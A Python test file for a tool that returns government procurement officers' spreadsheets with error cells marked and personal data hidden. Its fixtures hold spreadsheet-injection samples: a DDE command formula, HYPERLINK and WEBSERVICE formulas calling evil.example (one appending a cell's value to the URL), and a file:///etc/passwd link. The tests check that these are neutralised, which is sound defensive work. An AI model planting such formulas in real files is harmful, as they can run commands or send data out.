"""The workbook of corrections: the officer's own with its bad cells marked, safe, and bounded in memory."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation

from ckanext.gkopen.oversight import book as look
from ckanext.gkopen.oversight import corrections

HEADER = ["公告编号", "发布时间", "预算金额(万元)"]
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1")


def finding(line: int | None, label: str | None, value: str | None = None, code: str = "date-wrong",
            severity: str = "error", **more: Any) -> dict[str, Any]:
    return {"code": code, "severity": severity, "line": line, "field": None, "label": label, "value": value,
            "params": {}, "sheet": None, **more}


FOUND = [finding(None, None, code="no-rows"), finding(3, "发布时间", "2026-13-46"), finding(4, None, code="row-ragged"),
         finding(3, "预算金额(万元)", "百万", code="not-an-amount"),
         finding(5, "公告编号", code="value-missing", severity="info")]


def made(target: Path, found: list[dict[str, Any]], raw: bytes | None = None,
         rows: list[dict[str, Any]] | None = None) -> str:
    return corrections.write(target, lambda: found, lambda: rows or [], raw)


def own_workbook() -> bytes:
    """As an officer's is: a title above, bold headings, a merged cell, formulas, a macro's leftovers, rules, names."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "采购"
    sheet.append(["采购公告一览"])
    sheet.merge_cells("A1:C1")
    sheet.append(HEADER)
    sheet["A2"].font = Font(bold=True, color="FFCC0000")
    sheet.append(["A-1", "2026-13-46", "百万"])
    sheet.append(["A-2", "2026-05-06", "=WEBSERVICE(\"http://evil.example/\"&A1)"])
    sheet.append([None, "2026-05-07", 12.5])
    sheet["A4"].hyperlink = "file:///etc/passwd"
    rule = DataValidation(type="list", formula1="'[other.xlsx]Sheet1'!$A$1:$A$9")
    sheet.add_data_validation(rule)
    rule.add("B3:B9")
    sheet.conditional_formatting.add("A3:C9", FormulaRule(formula=['WEBSERVICE("http://evil.example")="x"']))
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def listed(book: Any) -> list[tuple[Any, ...]]:
    return list(book[look.LIST].iter_rows(values_only=True))


def test_the_officers_own_workbook_comes_back_marked(tmp_path: Path) -> None:
    target = tmp_path / "own.xlsx"
    assert made(target, FOUND, own_workbook()) == "own"
    book = load_workbook(target)
    sheet = book["采购"]
    assert sheet["B3"].fill.fgColor.rgb == "FFF4B6B0" and sheet["C3"].fill.fgColor.rgb == "FFF4B6B0"
    comment = sheet["B3"].comment
    assert comment is not None and "处理办法" in comment.text and "[date-wrong]" in comment.text
    assert sheet["A4"].comment is not None and "[row-ragged]" in sheet["A4"].comment.text, "a whole row's at its start"
    assert sheet["A5"].comment is None, "what was only noted is in the list"
    assert sheet["A2"].font.b and "A1:C1" in sheet.merged_cells, "the look stays"
    lines = listed(book)
    assert lines[0][2:5] == ("行号", "列", "原值") and len(lines) == len(FOUND) + 1
    assert lines[2][2:6] == (3, "发布时间", "2026-13-46", "错误") and lines[2][7] == "date-wrong" and lines[2][9]


def merged_workbook() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for number in range(60):
        sheet.append([f"A-{number}", "2026-13-46" if number == 0 else None, 1])
    sheet.merge_cells("B2:B61")
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def test_a_merged_cell_tells_the_findings_of_all_its_lines(tmp_path: Path) -> None:
    target = tmp_path / "merged.xlsx"
    found = [finding(line, "发布时间", severity="error" if line == 2 else "warning") for line in (4, 3, 2)]
    assert made(target, found, merged_workbook()) == "own"
    cell = load_workbook(target).worksheets[0]["B2"]
    assert cell.comment is not None and all(f"第 {line} 行" in cell.comment.text for line in (2, 3, 4))
    assert cell.fill.fgColor.rgb == look.FILLS["error"].fgColor.rgb


def test_a_comment_that_has_no_room_for_all_says_how_many_more_the_list_has(tmp_path: Path) -> None:
    target = tmp_path / "many.xlsx"
    made(target, [finding(line, "发布时间", "2026-13-46" * 40) for line in range(2, 62)], merged_workbook())
    comment = load_workbook(target).worksheets[0]["B2"].comment
    assert comment is not None
    told = comment.text.count("[date-wrong]")             # each with its advice and code, none cut
    assert told and comment.text.endswith(f"另有 {60 - told} 处，见“问题清单”。")
    assert comment.text.count("处理办法：") == told


@pytest.mark.parametrize("large", [False, True])
def test_what_was_mended_since_an_earlier_round_is_marked_no_more(tmp_path: Path, large: bool,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    made(first, FOUND, own_workbook())
    sent = load_workbook(first)
    sent["采购"]["B3"] = "2026-12-04"
    note = Comment("请王科长核对", "officer")
    sent["采购"]["A5"].comment = note
    sent["采购"]["A5"].fill = look.FILLS["warning"]       # the officer's own remark and colour stay
    sent.save(first)
    if large:
        monkeypatch.setattr(corrections, "WHOLE_BYTES", 0)
    again = [finding(3, "预算金额(万元)", "百万", code="not-an-amount")]
    assert made(second, again, first.read_bytes()) == ("own-large" if large else "own")
    book = load_workbook(second)
    assert book.sheetnames == ["采购", look.LIST]
    assert [row[7] for row in listed(book)[1:]] == ["not-an-amount"]
    sheet = book["采购"]
    assert sheet["B3"].comment is None and sheet["B3"].fill.fill_type is None
    assert sheet["C3"].comment is not None and "not-an-amount" in sheet["C3"].comment.text
    if not large:
        assert sheet["A5"].comment is not None and sheet["A5"].comment.text == "请王科长核对"
        assert sheet["A5"].fill.fgColor.rgb == look.FILLS["warning"].fgColor.rgb


def test_nothing_in_it_computes_fetches_or_runs(tmp_path: Path) -> None:
    raw = io.BytesIO(own_workbook())
    with zipfile.ZipFile(raw, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    target = tmp_path / "own.xlsx"
    assert made(target, FOUND, raw.getvalue()) == "own"
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        texts = {name: archive.read(name).decode("utf-8", "replace") for name in names}
    assert not [name for name in names if "vba" in name.lower() or "external" in name.lower()]
    assert not [name for name, text in texts.items() if "<f>" in text or "<f " in text or "evil.example" in text
                or "/etc/passwd" in text or "other.xlsx" in text]


def test_texts_that_look_like_formulas_stay_texts(tmp_path: Path) -> None:
    rows = [{"body": text, "line": number, "kind": "bad", "row": {"公告编号": text, "发布时间": "x", text: text}}
            for number, text in enumerate(FORMULAS, 2)]
    found = [finding(number, "发布时间", text) for number, text in enumerate(FORMULAS, 2)]
    target = tmp_path / "made.xlsx"
    assert made(target, found, None, rows) == "generated"
    for sheet in load_workbook(target).worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(target) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    assert [cell.value for cell in load_workbook(target)[corrections.ROWS]["C"]][1:] == list(FORMULAS)


def test_rows_of_a_source_are_marked_and_personal_data_is_hidden(tmp_path: Path) -> None:
    secret = "320102199003071234"
    rows: list[dict[str, Any]] = [
        {"body": "南通市财政局", "line": 2, "kind": "bad", "row": {"公告编号": f"联系人{secret}", "发布时间": "x"}},
        {"body": "南通市交通运输局", "line": 2, "kind": "bad", "row": {"公告编号": "B", "发布时间": "y"}},
        {"body": "南通市财政局", "line": 3, "kind": "duplicate", "row": {"公告编号": "C"}}]
    found = [finding(2, "公告编号", code="personal-id_number", body="南通市财政局"),
             finding(2, "发布时间", "y", body="南通市交通运输局")]
    target = tmp_path / "made.xlsx"
    made(target, found, None, rows)
    sheet = load_workbook(target)[corrections.ROWS]
    assert [row[:4] for row in sheet.iter_rows(values_only=True)] == [
        ("责任主体", "行号", "公告编号", "发布时间"), ("南通市财政局", 2, look.HIDDEN, "x"),
        ("南通市交通运输局", 2, "B", "y")]
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment] == ["C2", "D3"]
    with zipfile.ZipFile(target) as archive:
        assert not [name for name in archive.namelist() if secret.encode() in archive.read(name)]


@pytest.mark.parametrize("raw", [b"", b"not a workbook", b"PK\x03\x04 broken", own_workbook()[:-400]])
def test_what_is_no_workbook_gets_a_generated_one(tmp_path: Path, raw: bytes) -> None:
    assert made(tmp_path / "made.xlsx", FOUND, raw) == "generated"
    assert listed(load_workbook(tmp_path / "made.xlsx"))[0][0] == "责任主体"


CSV = "采购公告一览\r\n\r\n公告编号,发布时间,预算金额(万元)\r\nA-1,2026-13-46,=1+1\r\nA-2,\"2026\r\n05\",3,多出\r\n"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_csv_becomes_a_workbook_of_all_its_rows(tmp_path: Path, encoding: str) -> None:
    target = tmp_path / "made.xlsx"
    found = [finding(4, "发布时间", "2026-13-46"), finding(5, None, code="row-ragged")]
    said = corrections.write(target, lambda: found, lambda: [], CSV.encode(encoding), "2026年/公告[1]:表.csv")
    assert said == "own-rows"
    sheet = load_workbook(target).worksheets[0]
    assert sheet.title == "公告 1  表"
    assert [[value for value in row if value] for row in sheet.iter_rows(values_only=True)] == [
        ["采购公告一览"], HEADER, ["A-1", "2026-13-46", "=1+1"], ["A-2", "2026\n05", "3", "多出"]]
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment] == ["B3", "A4"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(("raw", "filename"), [
    (CSV.replace("A-1", "A" * (look.CELL_LENGTH + 1)).encode(), "表.csv"),
    (b'[{"\xe5\x85\xac\xe5\x91\x8a": "1"}]', "x.json"),
    (b"\xff\xfe\x00\xd8", "表.csv")], ids=["a cell that would be cut", "JSON", "no text"])
def test_what_cannot_come_back_whole_is_generated(tmp_path: Path, raw: bytes, filename: str) -> None:
    assert corrections.write(tmp_path / "made.xlsx", lambda: FOUND, lambda: [], raw, filename) == "generated"


def test_what_the_reader_refused_is_not_opened(tmp_path: Path) -> None:
    found = [finding(None, None, code="zip-bomb")]
    assert made(tmp_path / "made.xlsx", found, own_workbook()) == "generated"


LARGE = """
import io, sys
from openpyxl import Workbook
from pathlib import Path
from ckanext.gkopen.oversight import corrections
book = Workbook(write_only=True)
sheet = book.create_sheet("采购")
header = [f"列{n}" for n in range(15)]
sheet.append(header)
for line in range(50_000):
    sheet.append([f"第{line}行的第{n}个值" if n % 3 else "=1+1" if line == 7 else line * n for n in range(15)])
kept = io.BytesIO()
book.save(kept)
raw = kept.getvalue()
del book, sheet, kept
def found():
    for line in range(2, 50_000, 3):
        yield {"code": "date-wrong", "severity": "error", "line": line, "field": None, "label": f"列{line % 15}",
               "value": "x", "params": {}, "sheet": None}
def most():  # not ru_maxrss: a child inherits that of the process which started it
    line = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:"))
    return int(line.split()[1]) // 1024
before = most()
said = corrections.write(Path(sys.argv[1]), found, lambda: [], raw)
print(said, before, most())
"""


@pytest.mark.torture
def test_fifty_thousand_rows_stay_in_bounded_memory(tmp_path: Path) -> None:
    target = tmp_path / "large.xlsx"
    done = subprocess.run([sys.executable, "-c", LARGE, str(target)], capture_output=True, text=True, check=True)
    said, before, most = done.stdout.split()
    print(f"50,000 rows of 15 cells: {said}, {before} MB before, {most} MB at most")
    assert said == "own-large" and int(most) < 500
    sheet = load_workbook(target, read_only=True)["采购"]
    assert sum(1 for _ in sheet.iter_rows()) == 50_001


def test_a_large_one_is_copied_row_by_row_with_the_same_marks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(corrections, "WHOLE_BYTES", 10)
    target = tmp_path / "large.xlsx"
    assert made(target, FOUND, own_workbook()) == "own-large"
    sheet = load_workbook(target)["采购"]
    assert sheet["B3"].comment is not None and sheet["B3"].fill.fgColor.rgb == "FFF4B6B0"
    assert [cell.value for cell in sheet[5]] == [None, "2026-05-07", 12.5]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_two_rows_of_headings_are_joined() -> None:
    rows = [("预算", None, "决算"), ("收入", "支出", "收入"), (1, 2, 3)]
    labels = ["预算收入", "预算支出", "决算收入"]
    assert corrections._places(rows, labels) == {label: index for index, label in enumerate(labels)}


def test_a_row_without_a_finding_of_the_gate_is_shown_as_it_is() -> None:
    row: Mapping[str, Any] = {"电话": "0513-12345", "空": None}
    assert corrections.shown_row(row, [finding(1, "电话")]) == {"电话": "0513-12345", "空": ""}


@pytest.mark.parametrize("code", ["body-unknown", "body-foreign"])
def test_what_the_gate_never_saw_is_looked_through_before_it_is_shown(code: str) -> None:
    row: Mapping[str, Any] = {"采购人": "某局", "备注": "联系 13812345678", "+1": "a.b@example.com", "金额": 12.5}
    shown = {"采购人": "某局", "备注": corrections.look.HIDDEN, "+1": corrections.look.HIDDEN, "金额": "12.5"}
    assert corrections.shown_row(row, [finding(1, None, code=code)]) == shown
    assert corrections.shown_row(row, [finding(1, "采购人")]) == shown | {"备注": row["备注"]}
